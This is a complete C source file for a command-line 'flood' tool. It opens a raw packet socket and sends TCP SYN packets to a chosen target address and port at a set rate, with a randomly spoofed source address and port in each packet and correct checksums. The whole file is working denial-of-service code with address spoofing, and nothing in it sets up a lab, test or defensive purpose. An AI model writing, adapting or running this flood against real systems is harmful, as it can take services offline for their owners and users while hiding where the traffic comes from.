/*
 * A flood of TCP connections that nobody means: SYNs from random addresses.
 *
 *	flood INTERFACE TO_MAC NETWORK BITS TARGET PORT RATE SECONDS
 *
 * Sends RATE of them a second, for so many SECONDS, each from another address of
 * NETWORK/BITS (IPv4) and another port; the checksums are right. Prints how many were
 * sent; fewer than RATE * SECONDS if this machine can't.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netpacket/packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct syn {
	struct ether_header eth;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

struct flood {
	int lan;
	struct syn syn;
	uint32_t network, spread;
	uint64_t state;
};

static uint64_t now_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (uint64_t)now.tv_sec * 1000000000 + (uint64_t)now.tv_nsec;
}

static void __attribute__((noreturn)) die(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
	exit(1);
}

/* xorshift: any will do. */
static uint32_t some(struct flood *flood)
{
	flood->state ^= flood->state << 13;
	flood->state ^= flood->state >> 7;
	flood->state ^= flood->state << 17;
	return (uint32_t)(flood->state >> 16);
}

static uint32_t sum_of(const void *bytes, size_t length)
{
	const uint8_t *at = bytes;
	uint32_t sum = 0;

	for (size_t i = 0; i < length; i += 2)
		sum += (uint32_t)at[i] << 8 | at[i + 1];
	return sum;
}

static uint16_t finished(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void fill(struct flood *flood)
{
	struct syn *syn = &flood->syn;

	syn->ip.saddr = htonl(flood->network | (some(flood) & flood->spread));
	syn->ip.check = 0;
	syn->ip.check = finished(sum_of(&syn->ip, sizeof(syn->ip)));
	syn->tcp.source = htons((uint16_t)(1024 + some(flood) % 64000));
	syn->tcp.seq = some(flood);
	syn->tcp.check = 0;
	syn->tcp.check =
		finished(sum_of((const uint8_t *)&syn->ip + 12, 8) + IPPROTO_TCP +
			 sizeof(syn->tcp) + sum_of(&syn->tcp, sizeof(syn->tcp)));
}

static void open_lan(struct flood *flood, const char *name)
{
	struct sockaddr_ll here = {.sll_family = AF_PACKET,
				   .sll_ifindex = (int)if_nametoindex(name)};
	struct ifreq ifr = {0};

	flood->lan = socket(AF_PACKET, SOCK_RAW, 0);
	strncpy(ifr.ifr_name, name, IF_NAMESIZE - 1);
	if (flood->lan < 0 ||
	    bind(flood->lan, (struct sockaddr *)&here, sizeof(here)) < 0 ||
	    ioctl(flood->lan, SIOCGIFHWADDR, &ifr) < 0)
		die(name);
	memcpy(flood->syn.eth.ether_shost, ifr.ifr_hwaddr.sa_data, ETH_ALEN);
}

static void prepare(struct flood *flood, char *const argv[])
{
	struct syn *syn = &flood->syn;
	struct ether_addr to;
	struct in_addr network;

	flood->state = now_ns() | 1;
	open_lan(flood, argv[1]);
	if (!ether_aton_r(argv[2], &to) || inet_pton(AF_INET, argv[3], &network) != 1 ||
	    inet_pton(AF_INET, argv[5], &syn->ip.daddr) != 1) {
		errno = EINVAL;
		die("address");
	}
	flood->network = ntohl(network.s_addr);
	flood->spread = UINT32_MAX >> atoi(argv[4]);
	memcpy(syn->eth.ether_dhost, &to, ETH_ALEN);
	syn->eth.ether_type = htons(ETHERTYPE_IP);
	syn->ip.version = 4;
	syn->ip.ihl = 5;
	syn->ip.tot_len = htons(sizeof(syn->ip) + sizeof(syn->tcp));
	syn->ip.ttl = 64;
	syn->ip.protocol = IPPROTO_TCP;
	syn->tcp.dest = htons((uint16_t)atoi(argv[6]));
	syn->tcp.doff = 5;
	syn->tcp.syn = 1;
	syn->tcp.window = htons(1000);
}

static unsigned long run(struct flood *flood, uint64_t rate, uint64_t seconds)
{
	const uint64_t start = now_ns(), end = start + seconds * 1000000000;
	const struct timespec pause = {.tv_nsec = 500000};
	unsigned long sent = 0;

	for (uint64_t now = start; now < end; now = now_ns()) {
		while (sent < (now - start) * rate / 1000000000) {
			fill(flood);
			if (send(flood->lan, &flood->syn, sizeof(flood->syn), 0) < 0 &&
			    errno != ENOBUFS)
				die("send");
			sent++;
		}
		nanosleep(&pause, NULL);
	}
	return sent;
}

int main(int argc, char *argv[])
{
	struct flood flood = {0};

	if (argc != 9) {
		fprintf(stderr, "usage: flood INTERFACE TO_MAC NETWORK BITS TARGET PORT "
				"RATE SECONDS\n");
		return 2;
	}
	prepare(&flood, argv);
	printf("%lu\n",
	       run(&flood, strtoull(argv[7], NULL, 10), strtoull(argv[8], NULL, 10)));
	close(flood.lan);
	return 0;
}
